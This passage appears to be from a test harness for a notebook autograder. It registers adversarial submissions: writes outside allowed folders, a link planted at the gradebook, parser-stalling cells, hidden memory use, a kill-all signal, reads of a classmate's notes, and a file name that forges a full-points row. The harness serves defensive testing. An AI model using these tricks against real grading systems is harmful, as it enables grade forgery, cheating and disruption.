    add("writes_outside", "2a", None, lambda ctx, path: _write_outside(reference, honest["2a"], ctx, path),
        review=("/proc",), runs=all_runs,
        description="writes into the project, submissions, gradebook folder, HOME and a world-writable "
                    "folder, appends to files there, plants a link at the CSV gradebook path; then the honest 2a")
    add("stall_magic_cell", "3a", None, build_stall_cell(reference), runs=all_runs,
        description=f"one more cell of {STALL_LINES} lines `mK = %ls ...` ({STALL_LINES * STALL_LINE_CHARS} "
                    "characters): IPython's transformer takes minutes on it; the rest honest, full points")
    add("stall_cell_markers", None, None, build_stall_markers(reference), suffix=".py",
        description=f"a .py file of {STALL_MARKERS} cell markers, then a 3a definition: reading it exceeds the "
                    "extraction budget")
    add("uncounted_memory", "3b", None, side_effect("3b", lambda ctx: UNCOUNTED_MEMORY_3B), review=("ctypes",),
        runs=all_runs, description="memfd_create, SysV shared memory, oom_score_adj; then the honest 3b")
    add("memory_in_many_processes", "3b", None, side_effect("3b", lambda ctx: code(
        MANY_PROCESSES_MEMORY_3B, processes=MEMORY_PROCESSES, megabytes=MEMORY_PER_PROCESS_MB)),
        review=("fork", "kill"), description=f"{MEMORY_PROCESSES} processes of {MEMORY_PER_PROCESS_MB} MB each, "
                                             "every one under the address-space cap; then the honest 3b")
    add("locks_on_shared_file", "3a", None, side_effect("3a", lambda ctx: LOCKS_3A), review=("fcntl",),
        runs=all_runs, description="flock, F_SETLK, F_GETLK, F_OFD_SETLK on the shared utils.py; then the honest 3a")
    add("reads_grader_path", "3a", None, region("3a", lambda ctx: reads_grader_path_body(ctx, honest["3a"])),
        runs=all_runs, description="reads a classmate's notes from the grader's working directory and "
                                   "PYTHONPATH folder; then the honest 3a")
    add("newline_in_file_name", None, None, lambda ctx, path: path.write_text("{ this is not JSON\n"),
        file_name=f"newline_in_file_name\n{FORGED_ROW}  20  10  20  10  20  20  100 points",
        description="a malformed notebook whose file name draws a full-points row in the terminal table")
    add("probe", "3a", 0, region("3a", lambda ctx: code(PROBE_3A, sentinel=ctx.sentinel_pid, test_pid=ctx.test_pid)),
        review=("kill", "signal"), runs=all_runs,
        description="reports its uid and whether it can see the sentinel and the test process")
    return found


def _reference_traceback(reference: nbformat.NotebookNode, path: Path) -> None:
    notebook = copy_notebook(reference)
    with_region(notebook, "2a", TRAIN_2A_REWORDED)
    with_region(notebook, "2b", REFERENCE_TRACEBACK_2B)
    nbformat.write(notebook, path)


def _write_outside(reference: nbformat.NotebookNode, honest: str, ctx: Context, path: Path) -> None:
    notebook = copy_notebook(reference)
    with_region(notebook, "2a", write_outside_body(ctx, path, honest))
    nbformat.write(notebook, path)


def kill_all_attack(reference: nbformat.NotebookNode) -> Attack:
    honest = region_body(reference, "2b")
    return Attack("kill_all", "2b", None, build_region(reference, "2b", prelude_then(KILL_ALL_2B, honest)),
                  review=("kill", "signal"), description="os.kill(-1, SIGKILL); then the honest 2b")


def probe_attack(reference: nbformat.NotebookNode) -> Attack:
    return next(a for a in attacks(reference) if a.name == "probe")


def slow_honest(reference: nbformat.NotebookNode) -> Callable[[Context, Path], None]:
    """The reference notebook whose 1b sleeps 3 s first: honest, full points, a long-lived task."""
    return build_region(reference, "1b", prelude_then(SLOW_1B, region_body(reference, "1b")))
